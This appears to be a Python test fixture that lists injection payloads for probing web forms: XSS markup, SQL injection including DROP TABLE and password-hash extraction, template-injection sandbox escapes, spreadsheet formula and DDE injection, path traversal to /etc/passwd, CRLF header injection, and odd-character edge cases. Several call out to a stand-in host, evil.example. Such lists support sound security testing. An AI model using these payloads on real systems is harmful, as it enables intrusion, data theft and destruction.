"""What is tried on every form and look-up: markup, SQL, templates, formulas, paths, headers, odd letters."""

from __future__ import annotations

MARK = "zqx"  # in every piece of markup, so that it is found wherever it comes out
PRODUCT = "982007569"  # of what the template expressions calculate

MARKUP = (
    f"<script>{MARK}(1)</script>",
    f"\"'><img src={MARK} onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"</textarea></title></option><script src=//evil.example/{MARK}></script>",
    f'<a href="javascript:{MARK}()">x</a>',
    f"' autofocus onfocus={MARK}() x='",
    f'" style="background:url(//evil.example/{MARK})" x="',
    f'<iframe srcdoc="<script>{MARK}()</script>">',
    f"<math><mtext><table><mglyph><style><img src={MARK} onerror={MARK}()>",
    f"--><!--><script>{MARK}()</script>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}>",
    f"<<script>{MARK}()//<</script>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;<b>{MARK}</b>",
    f"\u202e<script>{MARK}()</script>",
    f"<ｓcript>{MARK}()</ｓcript><form action=//evil.example/{MARK}><input name=password>",
)
SQL = (
    "' OR '1'='1",
    "1 OR 1=1 --",
    "'; DROP TABLE org_unit; --",
    '") UNION SELECT password_hash FROM access_user --',
    "1) OR pg_sleep(5)--",
    "%' ESCAPE '",
    "\\' OR 1=1 #",
    "0x27 || (SELECT sql FROM sqlite_master)",
    "%_%_%",
    "$$; SELECT 1; $$",
)
TEMPLATES = (
    "{{31337*31337}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{31337*31337}}{% endfor %}",
    "${31337*31337}",
    "#{31337*31337}",
    "<%= 31337*31337 %>",
    "%(name)s %s %d {0} {name}",
    "{{config}}{{self.__init__.__globals__}}",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", '=HYPERLINK("//evil.example")', "=cmd|' /C calc'!A0")
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "CON",
    "a\x00.png",
)
HEADERS = (
    "x\r\nX-Injected: yes",
    "x\nSet-Cookie: injected=yes",
    "x\r\n\r\n<html>",
    "https://evil.example/",
    "//evil.example/%2f..",
    "x%0d%0aX-Injected:%20yes",
)
ODD = (
    "",
    " ",
    "\x00",
    "\u2028\u2029",
    "\ufeff",
    "é" * 400,
    "🈵🈚️" * 50,
    "²",
    "1e999",
    "-0",
    "NaN",
    "true",
    "null",
    "9" * 30,
)
EVERYTHING = (*MARKUP, *SQL, *TEMPLATES, *FORMULAS, *PATHS, *HEADERS, *ODD)
